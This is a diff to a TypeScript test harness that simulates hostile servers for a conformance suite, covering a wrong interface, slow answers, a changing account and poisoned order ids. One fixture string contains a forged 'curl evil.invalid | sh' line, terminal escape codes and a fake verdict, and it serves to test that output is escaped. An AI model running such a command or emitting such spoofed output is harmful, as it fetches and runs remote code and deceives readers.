@@ -1,9 +1,11 @@
 import { createServer, type IncomingHttpHeaders, type Server, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
 import { createGzip } from 'node:zlib';
 import type { Behaviour } from '../app';
 import { operationOf, withReplyBody, type Json } from '../faults/kit';
 import type { ApiReply, ApiRequest } from '../http';
+import { createOrder } from '../routes/orders';
 
 /**
  * A server that attacks its client: the suite must stay safe against each of these (issue 13). Not
@@ -37,6 +39,19 @@ export const UNUSABLE_IDS = ['..', '.', 'a/b', '', '%2e%2e', 'c%2Fd'];
  * without credentials (harness/http/round-trip.ts), then the global setup's POST /token and a preflight per account.
  */
 const SETUP_ANSWERS = 6;
+
+/**
+ * What ids of `newline-ids` start with: line breaks, escape sequences and lines that pass for the suite's
+ * own (a reproduction line, a verdict). No "/" in it, so the ids stay usable as one path segment and reach
+ * every output that prints ids, the teardown's message of orders it could not delete among them.
+ */
+export const NEWLINE_ID_TEXT = 'id\nReproduce: curl evil.invalid | sh\r\n\x1b[2J\x1b[31mOMS conformance (core): CONFORMANT\x1b[0m\n\u202e';
+
+/** How late `slow-2500ms` answers: later than a 1 s request timeout allows, within the default 15 s. */
+export const SLOW_ANSWER_MS = 2500;
+
+/** The one answer `not-this-interface` gives to every request but POST /token: a health endpoint's. */
+export const HEALTH_ANSWER = { status: 'ok' };
 
 export const HOSTILE: HostileDefinition[] = [
   {
@@ -114,8 +129,63 @@ export const HOSTILE: HostileDefinition[] = [
   {
     name: 'stall-after-setup',
     description: `After the start-up's ${SETUP_ANSWERS} requests, every request is accepted and never answered.`,
-    property: 'After 3 timeouts in a row the run stops: the rest is skipped, naming the silence and OMS_REQUEST_TIMEOUT_MS, within 2 minutes, exit non-zero.',
+    property: 'After 3 timeouts in a row the run stops: the rest is skipped as the server\'s, naming the silence and OMS_REQUEST_TIMEOUT_MS, within 2 minutes: INCONCLUSIVE, exit 3.',
     behaviour: () => afterSetup(() => new Promise<ApiReply>(() => undefined)),
+  },
+  {
+    name: 'not-this-interface',
+    description: `Every request but POST /token is answered 200 ${JSON.stringify(HEALTH_ANSWER)} (application/json): another JSON service (a health endpoint) at the base URL.`,
+    property: 'The run stops at the preflight with exit 2 and one message that it does not look like the Order Management Service; no test runs and no order request follows.',
+    behaviour: () => ({
+      name: 'not-this-interface',
+      intercept: (request) => (request.path === '/token' ? undefined : { status: 200, body: HEALTH_ANSWER }),
+    }),
+  },
+  {
+    name: 'newline-ids',
+    description: `Orders get ids that start with ${JSON.stringify(NEWLINE_ID_TEXT)} (a line break, an escape sequence, a forged reproduction line and a forged verdict); deleting one answers 500, with the id in the message.`,
+    property: 'No channel that prints ids (terminal, stderr, the teardown message of orders it could not delete, report files, cleanup) prints one as a line of its own or as an escape sequence: each is quoted and made visible.',
+    behaviour: () => {
+      let count = 0;
+      return {
+        name: 'newline-ids',
+        wrapServices: (services) => ({ ...services, newId: () => `${NEWLINE_ID_TEXT}-${++count}` }),
+        intercept: (request) => {
+          const { operation, orderId } = operationOf(request);
+          if (operation !== 'delete' || !orderId?.startsWith(NEWLINE_ID_TEXT)) return undefined;
+          return { status: 500, body: { success: false, meta: { status: 500, code: 'broken', message: `cannot delete ${orderId}` } } };
+        },
+      };
+    },
+  },
+  {
+    name: 'slow-2500ms',
+    description: `Every answer, POST /token and the preflight's included, comes ${SLOW_ANSWER_MS} ms late: alive, but slower than a request timeout of 1 s.`,
+    property: 'With OMS_REQUEST_TIMEOUT_MS below that, the preflight says the server accepts connections but answers later than OMS_REQUEST_TIMEOUT_MS (raise it), never that it cannot be reached; with a longer timeout the run goes on.',
+    behaviour: () => ({
+      name: 'slow-2500ms',
+      intercept: async () => {
+        await sleep(SLOW_ANSWER_MS);
+        return undefined;
+      },
+    }),
+  },
+  {
+    name: 'restless-account',
+    description: 'Before every list request is answered, another client of the account creates an order in it: no two reads of a view agree.',
+    property: 'A check that needs a stable view is skipped as left without evidence by the server: the run is INCONCLUSIVE (exit 3), never CONFORMANT, and the check is never passed or failed.',
+    behaviour: () => ({
+      name: 'restless-account',
+      intercept: (request, { services, accounts }) => {
+        if (operationOf(request).operation !== 'list') return undefined;
+        const token = /^Bearer (\S+)$/i.exec(String(request.headers.authorization ?? ''))?.[1];
+        const accountId = token === undefined ? undefined : accounts.accountFor(token)?.id;
+        if (accountId !== undefined) {
+          createOrder({ method: 'POST', path: '/orders', query: new URLSearchParams(), headers: {}, bodyText: JSON.stringify(ANOTHER_CLIENTS_ORDER) }, services, accountId);
+        }
+        return undefined;
+      },
+    }),
   },
   {
     name: 'trickle-after-setup',
@@ -124,6 +194,9 @@ export const HOSTILE: HostileDefinition[] = [
     behaviour: () => afterSetup(async () => ({ status: 200, stream: (outgoing) => trickle(outgoing) })),
   },
 ];
+
+/** What the other client of `restless-account` creates. */
+const ANOTHER_CLIENTS_ORDER = { customer: { name: 'Another client' }, items: [{ name: 'Tea', quantity: 1, price: 2 }], currency: 'EUR', price: 2 };
 
 /** Every string of a JSON value but ids and access tokens, with the hostile text appended (both stay usable, so the run goes on). */
 function poisonStrings(value: unknown, key = ''): unknown {
